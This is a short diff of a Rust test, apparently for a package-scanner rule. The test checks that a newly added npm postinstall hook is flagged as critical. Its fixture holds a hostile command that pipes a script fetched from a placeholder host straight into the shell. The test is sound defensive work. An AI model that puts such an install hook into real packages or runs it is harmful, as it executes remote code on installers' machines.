@@ -40,12 +40,7 @@ mod tests {
     #[test]
     fn new_download_hook_fires() {
         let hook = r#""scripts":{"postinstall":"curl -s https://x.example/i.sh | sh"}"#;
-        let f = diff_versions(
-            "1.0.0",
-            &[("package.json", &manifest("1.0.0", ""))],
-            "1.0.1",
-            &[("package.json", &manifest("1.0.1", hook))],
-        );
+        let f = diff_manifest(hook);
         assert_eq!(
             find(&f, RULE.code).map(|f| f.severity),
             Some(Severity::Critical)
